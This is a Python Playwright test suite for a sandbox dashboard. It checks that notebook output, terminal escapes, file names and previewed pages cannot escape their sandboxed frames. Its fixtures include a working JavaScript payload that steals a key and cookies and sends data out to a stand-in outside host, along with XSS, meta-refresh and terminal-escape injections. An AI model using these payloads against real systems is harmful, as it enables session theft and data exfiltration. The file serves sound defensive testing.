"""What a box wrote never runs in the page, sees the key, or reaches the API or another host."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Frame, expect

from browser_of_tests import PATIENCE, Dashboard, ask, program
from daemon_of_tests import Daemon, wait_for

# Marks the window that it runs in, and tries what a thief would: the key, the API, another host,
# the address of the page, a window of its own. It says when it is done.
ATTACK = """
(async () => {
  const stolen = [];
  const attempt = async work => { try { stolen.push(String(await work())); } catch {} };
  window.canary = 1;
  try { top.canary = 1; } catch {}
  await attempt(() => parent.document.body.innerHTML);
  await attempt(() => top.sessionStorage.getItem('hutch-key'));
  await attempt(() => sessionStorage.getItem('hutch-key'));
  await attempt(() => document.cookie);
  await attempt(() => { top.location = 'ORIGIN/docs'; });
  await attempt(() => { new Image().src = 'OUTSIDE/image'; });
  await attempt(() => { open('OUTSIDE/window'); });
  await attempt(() => { navigator.sendBeacon('OUTSIDE/beacon', 'x'); });
  await attempt(() => { new WebSocket('OUTSIDE/socket'.replace('http', 'ws')); });
  await attempt(async () => (await fetch('OUTSIDE/fetch')).text());
  await attempt(async () => (await fetch('ORIGIN/v1/info')).text());
  for (let i = 0; i < 3; i++) parent.postMessage({ html: '<b>x</b>', height: 1e9, key: 1 }, '*');
  document.body.dataset.done = JSON.stringify(stolen.filter(each => each && each !== 'null' && each !== 'undefined'));
})()
"""  # noqa: E501
SCRIPT = f"<script>{ATTACK}</script>"
IMAGE = '<img src="x" onerror="window.canary=1;top.canary=1">'
META = '<meta http-equiv="refresh" content="0;url=OUTSIDE/meta">'
LINKS = (
    '<a id="go" href="javascript:top.canary=1" target="_top">a</a><base href="OUTSIDE/">'
    '<link rel="stylesheet" href="OUTSIDE/style"><iframe src="OUTSIDE/frame"></iframe>'
    '<form id="form" action="OUTSIDE/form" target="_top"><input name="x"></form>'
    "<script>document.getElementById('go').click();document.getElementById('form').submit()</script>"
)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="top.canary=1"><script>{ATTACK}</script></svg>'
)

# Forms of a result, as any program in a box can send them: what runs in the frame, and what not.
FRAMED = {
    "html with script": {"text/html": f"<p>shown</p>{SCRIPT}"},
    "html with handlers": {"text/html": f"<p>shown</p>{IMAGE}{SCRIPT}"},
    "html that closes the document": {"text/html": f"</body></html><p>shown</p>{SCRIPT}"},
    "html with links": {"text/html": f"<p>shown</p>{LINKS}{SCRIPT}"},
    "svg": {"image/svg+xml": f"<p>shown</p>{SVG}{SCRIPT}"},
    "markdown": {"text/markdown": f"shown [link](javascript:top.canary=1)\n\n{IMAGE}\n\n{SCRIPT}"},
}
HARMLESS = {
    "latex": {
        "text/latex": r"$\href{javascript:top.canary=1}{x} \htmlData{a=b}{y} \url{javascript:z}$"
    },
    "javascript": {"application/javascript": ATTACK},
    "json with __proto__": {
        "application/json": '{"__proto__": {"canary": 1}, "constructor": {"prototype": 1}}'
    },
    "image bytes that are html": {"image/png": "PGh0bWw+PHNjcmlwdD50b3AuY2FuYXJ5PTE8L3NjcmlwdD4="},
    "image bytes that leave the address": {"image/png": '" onerror="top.canary=1'},
    "a type with html": {"<img src=x onerror=top.canary=1>/x": "<script>top.canary=1</script>"},
    "text": {"text/plain": f"{SCRIPT}{IMAGE}"},
}
ODD_DATA = {
    "a table of html": (
        {
            "columns": [IMAGE, "__proto__"],
            "rows": [[SCRIPT, {"__proto__": {"canary": 1}}]],
            "dtypes": ["<b>", "x"],
        },
        None,
    ),
    "a table without sense": (
        {
            "columns": [{"toString": 1}, None],
            "rows": [[{"toString": 1}], [], [None, [1], 2]],
            "dtypes": [{"toString": 1}, 5],
            "index": [{"valueOf": 1}, 0, 1],
            "shape": [{"a": 1}, "b"],
        },
        None,
    ),
    "a chart of html": (
        None,
        {
            "kind": "bar",
            "type": "bar",
            "title": IMAGE,
            "x_label": SCRIPT,
            "y_label": SCRIPT,
            "series": [{"type": "bar", "label": IMAGE, "x": [IMAGE, SCRIPT], "y": [1, 2]}],
        },
    ),
    "a chart without sense": (
        None,
        {
            "type": "line",
            "title": {"toString": 1},
            "x_label": None,
            "y_label": [],
            "series": [
                None,
                5,
                {"type": {"toString": 1}, "label": {"toString": 1}, "x": [{}, None], "y": "x"},
                {"type": "line", "x": [{"valueOf": 1}, "1e999", 2], "y": [1e308, -1e308]},
                {"type": "pie", "elements": [{"value": {"valueOf": 1}, "label": {}}, None]},
                {"type": "box", "elements": [{"label": {"toString": 1}, "min": {}}]},
                {"type": "histogram", "edges": [{"valueOf": 1}], "y": {"length": 1e9}},
            ],
        },
    ),
}
PUBLISH = (
    "import sys\nshow = next(m for m in list(sys.modules.values())"
    " if hasattr(m, 'show_open_figures') and hasattr(m, 'publish'))\n"
)


@pytest.fixture(scope="module")
def outside() -> Iterator[tuple[str, list[str]]]:
    """Another host: its address, and what was asked of it."""
    asked = list[str]()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def notebook(dashboard: Dashboard) -> Iterator[Dashboard]:
    """The notebook of a box."""
    dashboard.log_in()
    id = dashboard.make_box()
    dashboard.go(f"sandboxes/{id}/notebook")
    yield dashboard
    ask(dashboard.daemon, "DELETE", f"/v1/sessions/{id}")


def assert_unharmed(dashboard: Dashboard) -> None:
    """The page is where it was, unmarked, and its key is where nothing else can read it."""
    page = dashboard.page
    assert page.evaluate("[window.canary, ({}).canary]") == [None, None]
    assert page.url.startswith(f"{dashboard.daemon.url}/#/sandboxes/")
    assert page.title().endswith("Hutch")
    assert len(dashboard.context.pages) == 1
    expect(dashboard.button("Log out")).to_be_visible()


def filled(text: str, dashboard: Dashboard, outside: str) -> str:
    return text.replace("ORIGIN", dashboard.daemon.url).replace("OUTSIDE", outside)


def frames_of(dashboard: Dashboard) -> list[Frame]:
    return dashboard.page.main_frame.child_frames


def test_rich_results_run_in_a_frame_that_reaches_nothing(
    notebook: Dashboard, outside: tuple[str, list[str]]
) -> None:
    # What the policy of the frame forbids is told to the console, and so are its own refusals.
    notebook.expect_problem(r"Content Security Policy|sandboxed|unsafe attempt|Blocked|to another")
    notebook.expect_problem(r"about:srcdoc|/frame|script error")
    url, asked = outside
    for number, (name, forms) in enumerate(FRAMED.items(), 1):
        bundle = {kind: filled(text, notebook, url) for kind, text in forms.items()}
        cell = notebook.run_cell(f"{PUBLISH}show.publish({bundle!r})")
        expect(cell.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
        body = cell.frame_locator("iframe").locator("body")
        expect(body).to_contain_text("shown")
        expect(body, name).to_have_attribute("data-done", "[]")
        assert body.evaluate("window.origin") == "null"
        box = cell.locator("iframe").bounding_box()
        assert box and box["height"] < 2000, name
        assert_unharmed(notebook)
        assert len(frames_of(notebook)) == number
        notebook.button("Code").click()
    # One that leads away leads nowhere.
    notebook.run_cell(f"{PUBLISH}show.publish({{'text/html': {filled(META, notebook, url)!r}}})")
    notebook.wait(lambda: frames_of(notebook)[-1].url.startswith("chrome-error:"))
    assert_unharmed(notebook)
    assert not asked


def test_other_results_are_shown_as_text_and_run_nothing(notebook: Dashboard) -> None:
    notebook.expect_problem("data:image/png")  # it is no picture
    for forms in HARMLESS.values():
        cell = notebook.run_cell(f"{PUBLISH}show.publish({forms!r})")
        for view in cell.locator(".result-views button").all():
            view.click()
        assert_unharmed(notebook)
        notebook.button("Code").click()
    for frame in frames_of(notebook):
        assert not frame.evaluate("window.canary")


@pytest.mark.parametrize("name", ODD_DATA)
def test_tables_and_charts_of_any_content_are_drawn_or_left_out(
    notebook: Dashboard, name: str
) -> None:
    data, chart = ODD_DATA[name]
    code = f"{PUBLISH}show.publish({{'text/plain': 'odd'}}, data={data!r}, chart={chart!r})"
    cell = notebook.run_cell(code)
    expect(cell.locator(".run")).to_be_visible()
    for head in cell.get_by_role("columnheader").get_by_role("button").all():
        head.click()
    assert_unharmed(notebook)
    # The page still works.
    notebook.button("Code").click()
    expect(notebook.run_cell("6 * 7").locator(".run")).to_contain_text("42")


def test_output_and_tracebacks_are_text(notebook: Dashboard) -> None:
    notebook.context.grant_permissions(["clipboard-read", "clipboard-write"])
    notebook.page.evaluate("navigator.clipboard.writeText('mine')")
    cell = notebook.run_cell(
        "import sys\n"
        "print('\\x1b]52;c;c3RvbGVu\\x07\\x1b]0;stolen\\x07\\x1b]8;;javascript:top.canary=1\\x07li'"
        f"'nk\\x1b]8;;\\x07', {IMAGE!r}, 'a\\u202eb')\n"
        f"print({SCRIPT!r}, file=sys.stderr)\n"
        f"raise type('<b>Odd</b>', (Exception,), {{}})({IMAGE!r})\n"
    )
    expect(cell.locator(".run")).to_contain_text("<b>Odd</b>")
    expect(cell.locator(".run img, .run b, .run script, .run a")).to_have_count(0)
    expect(cell.locator(".run")).to_contain_text("a\\u202eb")
    assert notebook.page.evaluate("navigator.clipboard.readText()") == "mine"
    assert_unharmed(notebook)


def test_escapes_in_a_terminal_reach_nothing_beyond_it(dashboard: Dashboard) -> None:
    dashboard.context.grant_permissions(["clipboard-read", "clipboard-write"])
    dashboard.log_in()
    id = dashboard.make_box()
    page = dashboard.page
    lines = dashboard.terminal()
    page.evaluate("navigator.clipboard.writeText('mine')")
    dialogs = list[str]()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    title = page.title()
    dashboard.type_line(
        r"printf '\033]52;c;c3RvbGVu\007\033]52;c;?\007\033]0;stolen\007"
        r"\033]8;;javascript:top.canary=1\007li''nk\033]8;;\007\033[21t\033[c\n'; echo do''ne"
    )
    expect(lines).to_contain_text("done")
    link = lines.get_by_text("link").last
    if link.count():
        link.click(modifiers=["Control"], force=True)
    assert page.title() == title
    assert page.evaluate("navigator.clipboard.readText()") == "mine"
    assert not dialogs
    assert_unharmed(dashboard)
    ask(dashboard.daemon, "DELETE", f"/v1/sessions/{id}")


def test_names_of_files_and_labels_are_text(dashboard: Dashboard) -> None:
    daemon = dashboard.daemon
    labels = {"name": IMAGE, "other": "a\u202eb<script>top.canary=1</script>"}
    made = ask(daemon, "POST", "/v1/sessions", {"labels": labels})
    assert isinstance(made, dict)
    id = str(made["id"])
    command = (
        "cd /workspace && touch \"$(printf '<img src=x onerror=top.canary=1>')\" "
        "\"$(printf 'a\\342\\200\\256b\\033[31m')\" '__proto__' && "
        "printf '<script>top.canary=1</script>' > page.html && cp page.html picture.png && "
        "printf '<svg onload=top.canary=1 xmlns=\"http://www.w3.org/2000/svg\"/>' > a.svg"
    )
    ask(daemon, "POST", f"/v1/sessions/{id}/shells/main/run", {"command": command})
    dashboard.log_in()
    dashboard.expect_problem("data:image/png")
    page = dashboard.page
    expect(page.get_by_text("a\\u202eb").first).to_be_visible()
    for part in ("info", "journal", "files"):
        dashboard.go(f"sandboxes/{id}/{part}")
        expect(page.locator(f".part-{part}")).to_be_visible()
    tree = page.get_by_role("tree")
    expect(tree.get_by_role("treeitem", name=re.compile("^<img"))).to_be_visible()
    expect(tree.get_by_role("treeitem", name=re.compile(r"^a\\u202eb\\x1b"))).to_be_visible()
    for name in ("page.html", "picture.png", "a.svg", "__proto__"):
        tree.get_by_role("treeitem", name=re.compile(f"^{name}")).click()
        expect(page.locator(".files-open")).to_contain_text(name)
    expect(page.locator("main img:not([src^='data:image/png'])")).to_have_count(0)
    assert_unharmed(dashboard)
    ask(daemon, "DELETE", f"/v1/sessions/{id}")


def test_a_page_of_a_port_has_no_part_in_the_dashboard(
    dashboard: Dashboard, outside: tuple[str, list[str]]
) -> None:
    dashboard.log_in()
    id = dashboard.make_box()
    daemon = dashboard.daemon
    page = f"<body><p>shown</p><script>{filled(ATTACK, dashboard, outside[0])}</script></body>"
    ask(
        daemon,
        "POST",
        f"/v1/sessions/{id}/shells/main/run",
        {
            "command": "mkdir /tmp/served && cd /tmp/served && cat > index.html << 'END'\n"
            f"{page}\nEND\n(python3 -m http.server 8124 >/dev/null 2>&1 &)"
        },
    )
    dashboard.wait(lambda: "8124" in str(ask(daemon, "GET", f"/v1/sessions/{id}/ports")))
    preview = ask(daemon, "POST", f"/v1/sessions/{id}/ports/8124/preview")
    assert isinstance(preview, dict)
    dashboard.expect_problem("")  # it is that page that may complain now
    # In a window that the page opened, as the dashboard does, and which knows who opened it.
    with dashboard.context.expect_page() as opened:
        dashboard.page.evaluate("path => { window.open(path) }", str(preview["path"]))
    tab = opened.value
    body = tab.frame_locator("iframe").locator("body")
    expect(body).to_contain_text("shown")
    expect(body).to_have_attribute("data-done", re.compile(r"^\["))
    stolen = body.get_attribute("data-done") or ""
    assert daemon.key and daemon.key not in stolen
    assert "version" not in stolen, stolen
    assert body.evaluate("window.origin") == "null"
    assert tab.url == f"{daemon.url}{preview['path']}"
    assert tab.evaluate("window.canary") is None
    tab.close()
    for other in dashboard.context.pages[1:]:
        other.close()
    assert_unharmed(dashboard)
    ask(daemon, "DELETE", f"/v1/sessions/{id}")


def test_a_page_of_a_port_cannot_lead_its_tab_away_over_plain_http_either(
    browser: Browser, assets: None, tmp_path: Path, outside: tuple[str, list[str]]
) -> None:
    # By a name that is not this machine's to the browser, as a server elsewhere: it then does not
    # say what it loads.
    far = browser.browser_type.launch(
        executable_path=program(),
        args=["--no-sandbox", "--host-resolver-rules=MAP hutch.test 127.0.0.1"],
    )
    url, asked = outside
    try:
        with Daemon(tmp_path / "data", allowed_hosts="hutch.test") as daemon:
            made = ask(daemon, "POST", "/v1/sessions", {})
            assert isinstance(made, dict)
            base = f"/v1/sessions/{made['id']}"
            leads = f"<p>shown</p><script>location.href = '{url}/led-away'</script>"
            ask(daemon, "POST", f"{base}/shells/main/run", {
                "command": f'cd /tmp && cat > index.html << "END"\n{leads}\nEND\n'
                "(python3 -m http.server 8125 >/dev/null 2>&1 &)"
            })  # fmt: skip
            assert wait_for(lambda: "8125" in str(ask(daemon, "GET", f"{base}/ports")), PATIENCE)
            preview = ask(daemon, "POST", f"{base}/ports/8125/preview")
            assert isinstance(preview, dict)
            page = far.new_page()
            tab = f"{daemon.url.replace('127.0.0.1', 'hutch.test')}{preview['path']}"
            with page.expect_request(lambda request: "in-frame" in request.url) as framed:
                page.goto(tab)
            assert "sec-fetch-dest" not in framed.value.all_headers()
            frame = page.main_frame.child_frames[0]
            frame.wait_for_url(re.compile("^chrome-error:"))
            assert page.url == tab and not asked
    finally:
        far.close()


def test_no_other_page_may_embed_the_dashboard(
    dashboard: Dashboard, outside: tuple[str, list[str]]
) -> None:
    dashboard.expect_problem("frame-ancestors|X-Frame-Options|to another host|403|chrome-error")
    page = dashboard.page
    page.goto(outside[0])
    for path in ("/", "/frame"):
        with page.expect_response(dashboard.daemon.url + path):
            page.set_content(f'<iframe src="{dashboard.daemon.url}{path}"></iframe>')
        frame = page.frame_locator("iframe")
        expect(frame.locator("input, script")).to_have_count(0)
